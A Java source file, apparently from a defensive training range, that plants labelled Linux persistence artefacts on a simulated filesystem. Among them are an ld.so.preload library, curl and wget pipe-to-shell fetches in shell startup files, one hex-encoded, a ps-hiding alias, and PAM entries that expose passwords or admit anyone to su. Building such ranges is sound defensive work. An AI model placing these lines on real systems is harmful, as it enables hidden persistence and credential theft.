package davy.range.plant;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/// What intruders leave where programs, shells and sessions start: the loader, shell files, PAM.
final class StartupArtefacts {
    private static final String LINKER = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";

    private StartupArtefacts() {}

    static void plant(Ground ground) {
        loader(ground);
        personalShells(ground);
        commonShells(ground);
        pam(ground);
    }

    private static void loader(Ground ground) {
        String library = "/usr/local/lib/" + ground.word() + ".so";
        ground.write(library, ground.inert.library("readdir", "readdir64", "/proc/self/fd/%d"));
        String preload = ground.write("/etc/ld.so.preload", library + "\n");
        ground.artefact("library preloaded everywhere", "ld-so-preload", "critical", preload);

        String other = "/lib/" + ground.dice.letters(3) + ".so." + ground.dice.letters(7);
        ground.replaceIn(LINKER, "/etc/ld.so.preload", (other + "........").substring(0, 18));
        ground.artefact(
                "dynamic linker that reads another file", "dynamic-linker", "critical", LINKER);
    }

    private static void personalShells(Ground ground) {
        Dice dice = ground.dice;
        String fetch = "curl -fsSL " + dice.url() + " | bash >/dev/null 2>&1 &\n";
        String profile = home(ground, ".profile", "# ~/.profile\n" + fetch);
        ground.artefact(".profile fetches and runs", "shell-startup", "high", profile);

        String rc =
                home(
                        ground,
                        ".bashrc",
                        "alias ls='ls --color=auto'\nalias ps='ps \"$@\" | grep -v "
                                + ground.word()
                                + "'\n");
        ground.artefact("alias that hides from ps", "shell-startup", "high", rc);

        String encoded = HexFormat.of().formatHex(fetch.getBytes(StandardCharsets.UTF_8));
        String logout = home(ground, ".bash_logout", "echo " + encoded + " | xxd -r -p | sh\n");
        ground.artefact(".bash_logout runs hidden text", "shell-startup", "high", logout);

        String trap =
                home(
                        ground,
                        ".bash_profile",
                        "trap '(/var/tmp/." + ground.word() + "/x &) 2>/dev/null' DEBUG\n");
        ground.artefact("trap starts a hidden program", "shell-startup", "high", trap);
    }

    private static void commonShells(Ground ground) {
        Dice dice = ground.dice;
        String library = "/usr/lib/." + ground.word() + ".so";
        ground.write(library, ground.inert.library());
        String preload =
                ground.write(
                        "/etc/profile.d/" + ground.word() + ".sh",
                        "export LD_PRELOAD=" + library + "\n");
        ground.artefact("profile.d preloads a library", "shell-startup", "high", preload);

        ground.append(
                "/etc/bash.bashrc",
                "PROMPT_COMMAND='(wget -qO- " + dice.url() + " | sh &) >/dev/null 2>&1'\n");
        ground.artefact(
                "PROMPT_COMMAND fetches for everybody",
                "shell-startup",
                "high",
                "/etc/bash.bashrc");

        String start = ground.write("/usr/share/." + ground.word() + ".sh", "/bin/true\n");
        ground.append("/etc/environment", "BASH_ENV=" + start + "\n");
        ground.artefact("BASH_ENV for every script", "shell-startup", "high", "/etc/environment");
    }

    private static void pam(Ground ground) {
        ground.append(
                "/etc/pam.d/sshd",
                "auth optional pam_exec.so quiet expose_authtok /usr/lib/." + ground.word() + "\n");
        ground.artefact("PAM hands passwords to a program", "pam", "critical", "/etc/pam.d/sshd");

        String module = "pam_" + ground.word() + ".so";
        ground.write(
                "/usr/lib/x86_64-linux-gnu/security/" + module,
                ground.inert.library("pam_sm_authenticate"));
        ground.append("/etc/pam.d/login", "auth sufficient " + module + "\n");
        ground.artefact("PAM module of no package", "pam", "critical", module);

        ground.append("/etc/pam.d/su", "auth sufficient pam_permit.so\n");
        ground.artefact("PAM lets everybody in", "pam", "critical", "/etc/pam.d/su");
    }

    private static String home(Ground ground, String name, String text) {
        String person = ground.person();
        return ground.owner(ground.write("/home/" + person + "/" + name, text), person);
    }
}
